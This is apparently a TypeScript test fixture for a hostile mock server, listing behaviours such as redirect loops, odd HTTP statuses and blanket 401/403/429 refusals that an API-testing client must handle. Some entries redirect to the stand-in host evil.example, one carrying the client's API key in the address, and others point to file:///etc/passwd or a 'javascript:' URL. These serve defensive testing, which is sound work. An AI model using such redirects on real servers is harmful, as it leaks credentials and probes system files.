import { news, third, type Behaviour } from './behaviour.ts';
import type { Hostile } from './server.ts';

const ERROR = (code: number): string => `{"code":${code},"message":"no","details":{}}`;
const answers =
  (status: number, body = ERROR(500001), headers: Readonly<Record<string, string>> = {}) =>
  (hostile: Hostile) =>
    hostile.reply({ status, body, headers: { 'content-type': 'application/json', ...headers } });
const redirects =
  (location: (hostile: Hostile) => string | null, status = 302) =>
  (hostile: Hostile) =>
    hostile.reply({ status, body: '', headers: { location: location(hostile) } });

const REDIRECTED = /redirect: \d+ answers? redirected/;
const EVERYTHING =
  /refuses every request: the first \d+ responses to requests with valid keys were all redirects/;

/** Redirects, unusual statuses, and targets that refuse every request in the same way. */
export const ANSWERS: readonly Behaviour[] = [
  {
    id: 'redirect-same-origin',
    does: 'sends everything on to another path',
    act: redirects(({ url }) => `/v2${url}`),
    codes: [3],
    says: EVERYTHING,
  },
  {
    id: 'redirect-other-origin',
    does: 'sends everything on to another host',
    act: redirects(({ url }) => `https://evil.example${url}`, 307),
    codes: [3],
    says: REDIRECTED,
  },
  {
    id: 'redirect-some',
    does: 'sends one endpoint on to another host',
    act: redirects(() => 'https://evil.example/', 308),
    on: news,
    codes: [3],
    says: REDIRECTED,
  },
  {
    id: 'redirect-loop',
    does: 'sends everything to itself',
    act: redirects(({ url }) => url, 301),
    codes: [3],
    says: REDIRECTED,
  },
  {
    id: 'redirect-to-file',
    does: 'sends everything to file:///etc/passwd',
    act: redirects(() => 'file:///etc/passwd'),
    codes: [3],
    says: REDIRECTED,
  },
  {
    id: 'redirect-to-script',
    does: 'sends everything to javascript:',
    act: redirects(() => 'javascript:alert(1)'),
    codes: [3],
    says: REDIRECTED,
  },
  {
    id: 'redirect-with-key',
    does: 'puts the key into the address',
    act: redirects(
      ({ key }) =>
        `https://evil.example/?key=${key}&k=${encodeURIComponent(Buffer.from(key).toString('base64'))}`,
    ),
    codes: [3],
    says: /key-echoed/,
  },
  {
    id: 'redirect-nowhere',
    does: 'answers 300 without an address',
    act: redirects(() => null, 300),
    codes: [3],
    says: /and no address/,
  },
  {
    id: 'status-418',
    does: 'is a teapot',
    act: answers(418),
    codes: [1, 3],
    says: /418|No verdict/,
  },
  {
    id: 'status-451',
    does: 'answers 451 now and then',
    act: answers(451),
    on: third,
    codes: [1, 3],
    says: /451/,
  },
  { id: 'status-999', does: 'answers 999', act: answers(999), codes: [1, 3], says: /999/ },
  { id: 'status-000', does: 'answers 000', act: answers(0), codes: [3], says: /does not respond/ },
  { id: 'status-600', does: 'answers 600', act: answers(600), codes: [1, 3], says: /600/ },
  {
    id: 'status-99999',
    does: 'answers 99999',
    act: answers(99_999),
    codes: [3],
    says: /does not respond/,
  },
  {
    id: 'every-5xx',
    does: 'answers 500 to 599 in turn',
    act: (hostile) => answers(500 + (hostile.number % 100))(hostile),
    codes: [1],
    says: /answer with server errors|answered with a server error/,
  },
  {
    id: 'always-503',
    does: 'is in maintenance for ten years',
    act: answers(503, ERROR(500301), { 'retry-after': '315360000' }),
    codes: [3],
    says: /consecutive requests were answered with 503/,
    timeoutMs: 2000,
  },
  {
    id: 'always-401',
    does: 'refuses every key',
    act: answers(
      401,
      '{"code":400101,"message":"Invalid API key","details":{"header":"X-API-KEY"}}',
    ),
    codes: [1, 3],
    says: /were all answered with 401/,
  },
  {
    id: 'always-403',
    does: 'forbids everything',
    act: answers(403, ERROR(400301)),
    codes: [1, 3],
    says: /to requests with valid keys were all 403/,
  },
  {
    id: 'always-404',
    does: 'knows no path',
    act: answers(404, ERROR(400402)),
    codes: [3],
    says: /is not the service under test/,
  },
  {
    id: 'always-429',
    does: 'limits everything',
    act: answers(429, '{"code":402901,"message":"Rate limit exceeded","details":{}}'),
    codes: [1, 3],
    says: /keeps answering 429/,
  },
  {
    id: 'forbids-later',
    does: 'forbids everything after 30 requests',
    act: answers(403, '<html>Blocked</html>', { 'content-type': 'text/html' }),
    on: ({ number }) => number > 30,
    args: ['--profile', 'standard'],
    codes: [1, 3],
    says: /started to refuse everything|"verdict"/,
  },
  {
    id: 'html-page',
    does: 'shows a login page',
    act: (hostile) =>
      hostile.reply({
        status: 200,
        body: '<!doctype html><title>Log in</title><form action=/login><input name=password></form>',
        headers: { 'content-type': 'text/html' },
      }),
    codes: [3],
    says: /an HTML page titled/,
  },
];
